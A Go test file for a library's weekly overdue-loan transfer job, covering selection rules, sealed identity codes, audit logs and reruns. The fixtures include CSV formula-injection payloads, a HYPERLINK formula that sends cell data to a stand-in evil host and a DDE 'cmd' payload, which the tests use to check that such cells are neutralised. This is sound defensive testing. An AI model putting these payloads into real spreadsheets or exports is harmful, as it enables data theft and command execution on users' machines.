package library

import (
	"bytes"
	"context"
	"encoding/csv"
	"log/slog"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb/types"

	seam "rekisteri/internal/record"
	"rekisteri/internal/register"
)

// A Monday, 06:00 in Helsinki: the schedule's hour.
var transferMonday = time.Date(2026, 12, 7, 4, 0, 0, 0, time.UTC)

var trTables = Tables{Patrons: "t-patrons", Loans: "t-loans", Transfers: "t-transfers", Statistics: "t-stats", Mail: "t-mail", Audit: "t-audit", Bookings: "t-bookings"}

// trSite is a Service on the fakes, with a clock the test moves.
type trSite struct {
	svc   *Service
	db    *trDB
	seal  *trSeal
	files *trFiles
	now   time.Time
	logs  *bytes.Buffer
}

func newTrSite(t *testing.T) *trSite {
	t.Helper()
	s := &trSite{db: newTrDB(), seal: &trSeal{}, files: &trFiles{files: map[string][]byte{}}, now: transferMonday, logs: &bytes.Buffer{}}
	svc, err := NewService(Deps{Register: register.MustLoad("library"), Platform: register.MustLoad("museum"),
		DB: s.db, Open: s.seal, Files: s.files, Tables: trTables, Now: func() time.Time { return s.now }})
	if err != nil {
		t.Fatal(err)
	}
	s.svc = svc
	prev := slog.Default()
	slog.SetDefault(slog.New(slog.NewJSONHandler(s.logs, nil)))
	t.Cleanup(func() { slog.SetDefault(prev) })
	return s
}

// trPatron is a patron of the fixture and their loans: item id → owner, due date.
type trPatron struct {
	number, first, last, hetu, born, phone string
	restricted                             bool
	loans                                  [][3]string
}

// The fixture on transferMonday (cutoff 2026-10-08): who has what overdue.
var trPatrons = []trPatron{
	{"1001", "Aino", "Aikuinen", "050580-123A", "1980-05-05", "0401234567", false, [][3]string{{"h1", "helsinki", "2026-10-08"}, {"e1", "espoo", "2026-09-01"}, {"h2", "helsinki", "2026-10-09"}}},
	{"1002", "Lassi", "Lapsi", "081208A123B", "2008-12-08", "0401112222", false, [][3]string{{"h3", "helsinki", "2026-08-01"}}},
	{"1003", "Eeva", "Eilentäysi", "071208A456C", "2008-12-07", "", false, [][3]string{{"e2", "espoo", "2026-10-01"}}},
	{"1004", "Rauni", "Rajoitettu", "010170-789D", "1970-01-01", "0403334444", true, [][3]string{{"v1", "vantaa", "2026-08-01"}}},
	{"1005", `=HYPERLINK("https://evil.example/?"&D2)`, "Kaava", "020290-246E", "1990-02-02", "+358405556666", false, [][3]string{{"e3", "espoo", "2026-07-01"}}},
}

func (s *trSite) seed(t *testing.T) {
	t.Helper()
	for _, p := range trPatrons {
		pat := &Patron{PK: PatronPK(p.number), SK: SKPatron, SubjectKey: "subject-" + p.number, CustomerNumber: p.number,
			FirstName: p.first, LastName: p.last, IdentityCode: trSealed(p.hetu, "seal-"+p.number), SealID: "seal-" + p.number,
			Street: "Kirjastotie " + p.number, Postcode: "02100", City: "Espoo", Phone: p.phone, BirthDate: p.born,
			CustomerGroup: GroupAdult, Lang: "fi", Delivery: ChannelEmail, CreatedAt: "2020-01-01T10:00:00Z", LastUsedAt: "2026-06-01T10:00:00Z",
			OpenLoans: len(p.loans)}
		put, err := s.svc.patronPut(pat)
		if err != nil {
			t.Fatal(err)
		}
		if p.restricted {
			put.Put.Item[seam.AttrRestricted] = &types.AttributeValueMemberS{Value: "2026-11-01T10:00:00Z"}
			put.Put.Item[seam.AttrRestrictedFor] = &types.AttributeValueMemberS{Value: "REQ-1"}
		}
		s.db.put(trTables.Patrons, put.Put.Item)
		for _, l := range p.loans {
			loan := map[string]types.AttributeValue{
				"pk": transferStr(PatronPK(p.number)), "sk": transferStr(LoanSK(l[0])), "subjectKey": transferStr("subject-" + p.number),
				"itemId": transferStr(l[0]), "title": transferStr("Kirja " + l[0]), "price": transferStr("23.50"), "owner": transferStr(l[1]),
				"type": transferStr("loan"), "status": transferStr("open"), "loanedAt": transferStr("2026-06-01T10:00:00Z"),
				"dueDate": transferStr(l[2]), "dueShard": transferStr(DueShard(l[0])), "renewals": transferNum(0),
			}
			put, err := s.svc.recs.Put(KindLoan, "open", loan)
			if err != nil {
				t.Fatal(err)
			}
			s.db.put(trTables.Loans, put.Put.Item)
		}
	}
}

// rows is the week's file of library, without its header (nil: no file).
func (s *trSite) rows(t *testing.T, week, library string) [][]string {
	t.Helper()
	b, ok := s.files.files[TransferFileKey(week, library)]
	if !ok {
		return nil
	}
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil || len(rows) == 0 || !slices.Equal(rows[0], TransferFileColumns) {
		t.Fatalf("the %s file of %s: %v %v", library, week, err, rows)
	}
	return rows[1:]
}

func (s *trSite) audits(event string) []map[string]types.AttributeValue {
	var out []map[string]types.AttributeValue
	for _, it := range s.db.all(trTables.Audit) {
		if transferAttr(it, "event") == event {
			out = append(out, it)
		}
	}
	return out
}

// inFile reports whether the file holds the item (by its title).
func inFile(rows [][]string, title string) int {
	n := 0
	for _, r := range rows {
		if r[5] == title {
			n++
		}
	}
	return n
}

func TestLibraryTransferRun(t *testing.T) {
	s := newTrSite(t)
	s.seed(t)
	if err := s.svc.runTransfer(context.Background()); err != nil {
		t.Fatal(err)
	}
	week := TransferWeek(transferMonday)
	for _, tc := range []struct {
		name, library, item string
		want                int
	}{
		{"an adult 60 days overdue", "helsinki", "h1", 1},
		{"the same adult's item of another library, in that library's file", "espoo", "e1", 1},
		{"the 59-day case", "helsinki", "h2", 0},
		{"a child (18 tomorrow)", "helsinki", "h3", 0},
		{"18 today", "espoo", "e2", 1},
		{"a restricted adult (Art. 18(2))", "vantaa", "v1", 1},
		{"a formula for a name", "espoo", "e3", 1},
		{"an item in another library's file", "vantaa", "h1", 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := inFile(s.rows(t, week, tc.library), "Kirja "+tc.item); got != tc.want {
				t.Errorf("%s in the %s file %d times, want %d", tc.item, tc.library, got, tc.want)
			}
		})
	}
	if _, ok := s.files.files[TransferFileKey(week, "kauniainen")]; ok {
		t.Error("a library with nothing to collect got a file")
	}
	aino := s.rows(t, week, "helsinki")
	if len(aino) != 1 || !slices.Equal(aino[0], []string{"Aino Aikuinen", "Kirjastotie 1001, 02100 Espoo", "0401234567", "050580-123A", "2026-10-08", "Kirja h1", "23.50"}) {
		t.Errorf("the helsinki file: %q", aino)
	}
	for _, r := range s.rows(t, week, "espoo") {
		if strings.HasPrefix(r[3], "020290") && (!strings.HasPrefix(r[0], "'=") || r[2] != "'+358405556666") {
			t.Errorf("formula cells not neutralised: %q", r)
		}
	}

	// The records: each transfer once, the code sealed, the loan off the index.
	transfers := s.db.all(trTables.Transfers)
	if len(transfers) != 5 {
		t.Fatalf("%d transfer items, want 5", len(transfers))
	}
	for _, it := range transfers {
		if _, sealed := it["identityCode"].(*types.AttributeValueMemberM); !sealed || transferAttr(it, "status") != TransferOpen || transferAttr(it, "kind") != KindTransfer {
			t.Errorf("transfer %s: %v", transferAttr(it, "sk"), it)
		}
		if _, ok := it[seam.AttrExpiresAt]; ok {
			t.Errorf("an open transfer carries an expiry: %v", it)
		}
		_, restricted := it[seam.AttrRestricted]
		if restricted != (transferAttr(it, "sk") == "item#v1") || (restricted && transferAttr(it, seam.AttrRestrictedFor) != "REQ-1") {
			t.Errorf("transfer %s restricted %v: the restricted patron's transfer carries their restriction, and only theirs", transferAttr(it, "sk"), restricted)
		}
	}
	for _, tc := range []struct {
		number, item string
		onIndex      bool
	}{{"1001", "h1", false}, {"1001", "e1", false}, {"1001", "h2", true}, {"1002", "h3", true}, {"1004", "v1", false}} {
		l := s.db.get(trTables.Loans, PatronPK(tc.number), LoanSK(tc.item))
		if _, on := l["dueShard"]; on != tc.onIndex || (transferAttr(l, "transferredAt") != "") == tc.onIndex {
			t.Errorf("loan %s: on the index %v, want %v; transferredAt %q", tc.item, on, tc.onIndex, transferAttr(l, "transferredAt"))
		}
	}
	aino1 := s.db.get(trTables.Patrons, PatronPK("1001"), SKPatron)
	if transferAttr(aino1, "openTransfers") != "2" || transferAttr(aino1, "status") != StateUnresolved || transferAttr(aino1, seam.AttrExpiryRule) != "patron-unresolved" {
		t.Errorf("patron after two transfers: openTransfers %s status %s rule %s", transferAttr(aino1, "openTransfers"), transferAttr(aino1, "status"), transferAttr(aino1, seam.AttrExpiryRule))
	}
	if p := s.db.get(trTables.Patrons, PatronPK("1002"), SKPatron); transferAttr(p, "openTransfers") != "0" {
		t.Errorf("the child's openTransfers %s", transferAttr(p, "openTransfers"))
	}
	// Each disclosure logged under the patron, the restricted one on its ground.
	if d, l := s.audits(EventTransferDisclosed), s.audits(EventTransferDisclosedLegalClaim); len(d) != 4 || len(l) != 1 || transferAttr(l[0], "subjectKey") != "subject-1004" {
		t.Errorf("%d disclosures and %d on a legal claim, want 4 and 1", len(d), len(l))
	}
	if o := s.audits(EventHetuDecrypted); len(o) != s.seal.opened || len(o) != 5 {
		t.Errorf("%d openings audited, %d made; want 5 (a patron per file)", len(o), s.seal.opened)
	}
	s.noCodeOutsideTheFiles(t)

	// The same week again: nothing twice, the same files.
	before := map[string][]byte{}
	for k, v := range s.files.files {
		before[k] = v
	}
	if err := s.svc.runTransfer(context.Background()); err != nil {
		t.Fatal(err)
	}
	for k, v := range before {
		if !bytes.Equal(s.files.files[k], v) {
			t.Errorf("a rerun wrote %s differently", k)
		}
	}
	if n := len(s.db.all(trTables.Transfers)); n != 5 || len(s.audits(EventTransferDisclosed)) != 4 {
		t.Errorf("a rerun: %d transfers, %d disclosures", n, len(s.audits(EventTransferDisclosed)))
	}

	// A week on: the 59-day case has passed 60 days, the child has turned
	// 18; what went last week does not go again.
	s.now = s.now.AddDate(0, 0, 7)
	if err := s.svc.runTransfer(context.Background()); err != nil {
		t.Fatal(err)
	}
	next := TransferWeek(s.now)
	if got := s.rows(t, next, "helsinki"); len(got) != 2 || inFile(got, "Kirja h2") != 1 || inFile(got, "Kirja h3") != 1 {
		t.Errorf("next week's helsinki file: %q, want h2 and h3 only", got)
	}
	for _, lib := range []string{"espoo", "vantaa", "kauniainen"} {
		if got := s.rows(t, next, lib); got != nil {
			t.Errorf("next week's %s file holds last week's: %q", lib, got)
		}
	}
	if p := s.db.get(trTables.Patrons, PatronPK("1001"), SKPatron); transferAttr(p, "openTransfers") != "3" {
		t.Errorf("openTransfers %s after the third transfer", transferAttr(p, "openTransfers"))
	}
}

// noCodeOutsideTheFiles: no identity code in any stored item or log line.
func (s *trSite) noCodeOutsideTheFiles(t *testing.T) {
	t.Helper()
	var stored bytes.Buffer
	for _, table := range []string{trTables.Patrons, trTables.Loans, trTables.Transfers, trTables.Audit} {
		for _, it := range s.db.all(table) {
			for k, v := range it {
				stored.WriteString(k + "=" + transferAttr(map[string]types.AttributeValue{"v": v}, "v") + "\n")
				if m, ok := v.(*types.AttributeValueMemberM); ok {
					for _, b := range m.Value {
						if bv, ok := b.(*types.AttributeValueMemberB); ok {
							stored.Write(bv.Value)
						}
					}
				}
			}
		}
	}
	for _, p := range trPatrons {
		for where, text := range map[string]string{"a stored item": stored.String(), "the log": s.logs.String()} {
			if strings.Contains(text, p.hetu) {
				t.Errorf("identity code of %s in %s", p.number, where)
			}
		}
		for _, personal := range []string{p.last, PatronPK(p.number)} {
			if strings.Contains(s.logs.String(), personal) {
				t.Errorf("%q in the log", personal)
			}
		}
	}
	if !strings.Contains(s.logs.String(), `"msg":"library transfer"`) {
		t.Errorf("the run logs no summary: %s", s.logs.String())
	}
}

// TestLibraryTransferRerunAfterFailure: a run that fails half-way is
// finished by the next, and nothing is transferred or disclosed twice.
func TestLibraryTransferRerunAfterFailure(t *testing.T) {
	for _, tc := range []struct {
		name   string
		inject func(s *trSite)
	}{
		{"a loan's transaction", func(s *trSite) { s.db.failTxAt[2] = true }},
		{"the last loan's transaction", func(s *trSite) { s.db.failTxAt[5] = true }},
		{"the audit of the openings", func(s *trSite) { s.db.failTxAt[6] = true }},
		{"a file's put", func(s *trSite) { s.files.fail = 1 }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := newTrSite(t)
			s.seed(t)
			tc.inject(s)
			if err := s.svc.runTransfer(context.Background()); err == nil {
				t.Fatal("the run with a failure reports no error (the schedule would not retry)")
			}
			if err := s.svc.runTransfer(context.Background()); err != nil {
				t.Fatalf("the rerun: %v", err)
			}
			week := TransferWeek(transferMonday)
			want := map[string][]string{"helsinki": {"h1"}, "espoo": {"e1", "e2", "e3"}, "vantaa": {"v1"}}
			for lib, items := range want {
				rows := s.rows(t, week, lib)
				if len(rows) != len(items) {
					t.Errorf("the %s file has %d rows, want %d", lib, len(rows), len(items))
				}
				for _, it := range items {
					if inFile(rows, "Kirja "+it) != 1 {
						t.Errorf("%s not once in the %s file", it, lib)
					}
				}
			}
			if n := len(s.db.all(trTables.Transfers)); n != 5 {
				t.Errorf("%d transfer items, want 5", n)
			}
			if d := len(s.audits(EventTransferDisclosed)) + len(s.audits(EventTransferDisclosedLegalClaim)); d != 5 {
				t.Errorf("%d disclosures, want one per transferred loan (5)", d)
			}
			if p := s.db.get(trTables.Patrons, PatronPK("1001"), SKPatron); transferAttr(p, "openTransfers") != "2" {
				t.Errorf("openTransfers %s, want 2", transferAttr(p, "openTransfers"))
			}
		})
	}
}

// TestLibraryTransferReadsTheOverdueSet: what a run reads is the overdue
// set — one byDue Query per shard, the overdue loans batch-read, one read
// per patron with one — however many loans are open and not yet due.
func TestLibraryTransferReadsTheOverdueSet(t *testing.T) {
	for _, open := range []int{0, 100, 2000} {
		s := newTrSite(t)
		s.seed(t)
		for i := range open {
			item := "open-" + strconv.Itoa(i)
			loan := map[string]types.AttributeValue{"pk": transferStr(PatronPK("1001")), "sk": transferStr(LoanSK(item)), "itemId": transferStr(item),
				"owner": transferStr("espoo"), "dueDate": transferStr("2026-12-20"), "dueShard": transferStr(DueShard(item)), "status": transferStr("open")}
			put, err := s.svc.recs.Put(KindLoan, "open", loan)
			if err != nil {
				t.Fatal(err)
			}
			s.db.put(trTables.Loans, put.Put.Item)
		}
		if err := s.svc.runTransfer(context.Background()); err != nil {
			t.Fatal(err)
		}
		// Overdue on the index: h1 e1 h3 e2 v1 e3 (h2 is 59 days); their 5 patrons.
		if s.db.dueQueries != DueShards || s.db.batchKeys != 6 || s.db.gets != 5 {
			t.Errorf("%d open loans not due: %d byDue queries, %d loans read, %d patrons read; want %d, 6, 5", open, s.db.dueQueries, s.db.batchKeys, s.db.gets, DueShards)
		}
	}
}

func TestLibraryTransferSelect(t *testing.T) {
	today := time.Date(2026, 12, 7, 0, 0, 0, 0, time.UTC)
	loan := func(due, owner string) overdueLoan {
		return overdueLoan{PK: "p", SK: "loan#x", ItemID: "x", Owner: owner, DueDate: due, DueShard: DueShard("x")}
	}
	for _, tc := range []struct {
		name, born string
		loan       overdueLoan
		take       bool
		skipped    string
	}{
		{"60 days overdue", "1980-01-01", loan("2026-10-08", "espoo"), true, ""},
		{"59 days overdue", "1980-01-01", loan("2026-10-09", "espoo"), false, skipNotDue},
		{"a year overdue", "1980-01-01", loan("2025-12-07", "vantaa"), true, ""},
		{"18 today", "2008-12-07", loan("2026-01-01", "helsinki"), true, ""},
		{"18 tomorrow", "2008-12-08", loan("2026-01-01", "helsinki"), false, skipChild},
		{"no birth date", "", loan("2026-01-01", "helsinki"), false, skipNoBirth},
		{"an owner not of the four", "1980-01-01", loan("2026-01-01", "turku"), false, skipNoOwner},
		{"already off the index", "1980-01-01", overdueLoan{DueDate: "2026-01-01", Owner: "espoo"}, false, skipNotOnList},
		{"no due date", "1980-01-01", loan("", "espoo"), false, skipNotDue},
		{"no identity code", "1980-01-01", loan("2026-01-01", "espoo"), false, skipNoCode},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := &Patron{BirthDate: tc.born, IdentityCode: trSealed("010180-123A", "s"), SealID: "s"}
			if tc.name == "no identity code" {
				p.IdentityCode = nil
			}
			take, skipped := selectTransfers(p, []overdueLoan{tc.loan}, today)
			if (len(take) == 1) != tc.take || (!tc.take && skipped[tc.skipped] != 1) {
				t.Errorf("take %v skipped %v; want take %v, skipped as %q", take, skipped, tc.take, tc.skipped)
			}
		})
	}
}

func TestLibraryTransferCSV(t *testing.T) {
	items := []Transfer{
		{SK: "item#b", Batch: "2026-W50#espoo", Name: "Öhman Ville", Address: "Tie 1, 02100 Espoo", Phone: "+358401234567", SealID: "s2", DueDate: "2026-10-01", Title: "@SUM(A1)", Price: "10.00"},
		{SK: "item#a", Batch: "2026-W50#espoo", Name: "=cmd|' /C calc'!A0", Address: "-Tie 2", Phone: "", SealID: "s1", DueDate: "2026-09-01", Title: "Kirja, osa 2", Price: "23.50"},
		{SK: "item#c", Batch: "2026-W50#espoo", Name: "Öhman Ville", Address: "Tie 1, 02100 Espoo", Phone: "+358401234567", SealID: "s2", DueDate: "2026-09-15", Title: "Toinen", Price: "5.00"},
	}
	body, err := transferCSV(items, map[string]string{"s1": "010101-0101", "s2": "020202A0202"})
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"name", "address", "phone", "identity_code", "due_date", "title", "price"},
		{"'=cmd|' /C calc'!A0", "'-Tie 2", "", "010101-0101", "2026-09-01", "Kirja, osa 2", "23.50"},
		{"Öhman Ville", "Tie 1, 02100 Espoo", "'+358401234567", "020202A0202", "2026-09-15", "Toinen", "5.00"},
		{"Öhman Ville", "Tie 1, 02100 Espoo", "'+358401234567", "020202A0202", "2026-10-01", "'@SUM(A1)", "10.00"},
	}
	if len(rows) != len(want) {
		t.Fatalf("rows %q", rows)
	}
	for i := range want {
		if !slices.Equal(rows[i], want[i]) {
			t.Errorf("row %d: %q, want %q", i, rows[i], want[i])
		}
	}
	again, _ := transferCSV([]Transfer{items[2], items[0], items[1]}, map[string]string{"s1": "010101-0101", "s2": "020202A0202"})
	if !bytes.Equal(body, again) {
		t.Error("the same items in another order make another file")
	}
	if _, err := transferCSV(items, map[string]string{"s1": "010101-0101"}); err == nil {
		t.Error("a row without its identity code was written")
	}
}

func TestLibraryTransferWeek(t *testing.T) {
	for _, tc := range []struct {
		day  string
		want string
	}{
		{"2026-12-07", "2026-W50"},
		{"2026-12-31", "2026-W53"},
		{"2027-01-01", "2026-W53"},
		{"2027-01-04", "2027-W01"},
		{"2025-12-29", "2026-W01"},
	} {
		d, _ := time.Parse(time.DateOnly, tc.day)
		if got := TransferWeek(d); got != tc.want {
			t.Errorf("TransferWeek(%s) = %s, want %s", tc.day, got, tc.want)
		}
	}
	if got := TransferFileKey("2026-W50", "espoo"); got != "transfers/2026-W50/espoo.csv" {
		t.Errorf("TransferFileKey = %s", got)
	}
}

// TestLibraryResolveTransfer: a returned transferred loan resolves its
// transfer once, its 3-year clock stamped by the seam, the patron's open
// transfer taken off for the caller's write.
func TestLibraryResolveTransfer(t *testing.T) {
	s := newTrSite(t)
	s.seed(t)
	if err := s.svc.runTransfer(context.Background()); err != nil {
		t.Fatal(err)
	}
	loan := s.db.get(trTables.Loans, PatronPK("1001"), LoanSK("h1"))
	p := &Patron{OpenTransfers: 2}
	returned := transferMonday.Add(48 * time.Hour)
	w, err := s.svc.resolveTransfer(p, "helsinki", "h1", transferAttr(loan, "transferredAt"), returned)
	if err != nil || w == nil {
		t.Fatalf("resolveTransfer: %v %v", w, err)
	}
	if p.OpenTransfers != 1 {
		t.Errorf("openTransfers %d after resolving one of two", p.OpenTransfers)
	}
	if _, err := s.db.TransactWriteItems(context.Background(), &dynamodb.TransactWriteItemsInput{TransactItems: []types.TransactWriteItem{*w}}); err != nil {
		t.Fatal(err)
	}
	tr := s.db.get(trTables.Transfers, TransferPK(TransferWeek(transferMonday), "helsinki"), "item#h1")
	if transferAttr(tr, "status") != TransferResolved || transferAttr(tr, "expiryRule") != "transfer-resolved" || tr[seam.AttrExpiresAt] == nil {
		t.Errorf("resolved transfer: %v", tr)
	}
	if _, err := s.db.TransactWriteItems(context.Background(), &dynamodb.TransactWriteItemsInput{TransactItems: []types.TransactWriteItem{*w}}); err == nil {
		t.Error("a transfer resolved twice")
	}
	if w, err := s.svc.resolveTransfer(p, "helsinki", "h2", "", returned); w != nil || err != nil {
		t.Errorf("a loan never transferred resolves %v %v", w, err)
	}
	if got := aws.ToString(w.Update.TableName); got != trTables.Transfers {
		t.Errorf("resolves in %s", got)
	}
	// After it resolves, next week's files leave it out; a rerun of its week too.
	if err := s.svc.runTransfer(context.Background()); err != nil {
		t.Fatal(err)
	}
	if rows := s.rows(t, TransferWeek(transferMonday), "helsinki"); inFile(rows, "Kirja h1") != 0 {
		t.Errorf("a resolved transfer is still in its week's file: %q", rows)
	}
}
